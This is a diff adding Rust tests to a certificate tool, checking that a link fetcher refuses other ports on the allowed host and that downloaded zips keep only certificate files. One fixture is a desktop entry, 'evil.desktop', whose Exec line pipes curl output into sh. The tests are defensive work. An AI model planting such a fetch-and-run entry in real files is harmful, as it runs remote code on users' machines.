@@ -251,6 +251,63 @@ async fn links_to_foreign_hosts_or_tampered_links_are_refused() {
 }
 
 #[tokio::test]
+async fn a_link_to_another_port_of_the_allowed_host_is_refused_and_that_port_receives_nothing() {
+    let sim = common::sim().await;
+    let link = dcs_link(&sim).await;
+    let session = common::session(&sim);
+    let fetcher = LinkFetcher::new(session.http(), session.endpoints().link_policy()).unwrap();
+    // Another local service on the same host, counting who knocks.
+    let other = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = other.local_addr().unwrap().port();
+    let knocked = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = knocked.clone();
+    let server = tokio::spawn(async move {
+        while other.accept().await.is_ok() {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+    let sim_port = url::Url::parse(sim.endpoint()).unwrap().port().unwrap();
+    let elsewhere = link.replace(&format!(":{sim_port}/"), &format!(":{port}/"));
+    assert_ne!(elsewhere, link);
+    let err = fetcher.fetch(&elsewhere, &SystemClock).await.unwrap_err();
+    assert!(matches!(&err, CloudError::LinkRejected(m) if m.contains(&format!("port {port}"))), "{err:?}");
+    // Without a port the scheme's (80) is not the endpoint's either.
+    let default_port = link.replace(&format!(":{sim_port}/"), "/");
+    assert!(matches!(fetcher.check(&default_port, &SystemClock), Err(CloudError::LinkRejected(_))));
+    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    assert_eq!(knocked.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was sent to the other port");
+    server.abort();
+    assert!(fetcher.fetch(&link, &SystemClock).await.is_ok(), "the endpoint's own port still works");
+    // The catalog's links name 443 (or none).
+    let public = certdesk::cloud::Endpoints::catalog(certdesk::cloud::Cloud::OpenTelekomCloud).link_policy();
+    let strict = LinkFetcher::new(session.http(), public).unwrap();
+    assert!(strict.check("https://b.obs.eu-de.otc.t-systems.com:443/a?Expires=99999999999", &SystemClock).is_ok());
+    assert!(strict.check("https://b.obs.eu-de.otc.t-systems.com:8443/a?Expires=99999999999", &SystemClock).is_err());
+}
+
+#[test]
+fn a_dcs_zip_is_saved_with_its_certificate_files_only() {
+    let pki = common::pki();
+    let pem = pki.root.pem.clone();
+    let zip = certdesk::certs::archive::write_zip(&[
+        ("ca.pem", pem.as_bytes()),
+        ("evil.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n"),
+        ("notes/readme.txt", b"hello"),
+    ])
+    .unwrap();
+    let read = certdesk::inventory::ca_download::read_download(bytes::Bytes::from(zip)).unwrap();
+    assert_eq!(read.left_out, ["evil.desktop", "notes/readme.txt"]);
+    let kept =
+        certdesk::certs::archive::read_zip("saved", &read.bytes, certdesk::certs::archive::ArchiveLimits::default())
+            .unwrap();
+    assert_eq!(kept.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["ca.pem"]);
+    assert_eq!(kept[0].bytes, pem.as_bytes());
+    // Only other files: refused, nothing to save.
+    let none = certdesk::certs::archive::write_zip(&[("evil.desktop", b"x".as_slice())]).unwrap();
+    assert!(certdesk::inventory::ca_download::read_download(bytes::Bytes::from(none)).is_err());
+}
+
+#[tokio::test]
 async fn an_expired_token_is_replaced_once() {
     let sim = common::sim().await;
     let s = common::password_session(&sim, "sim-password");
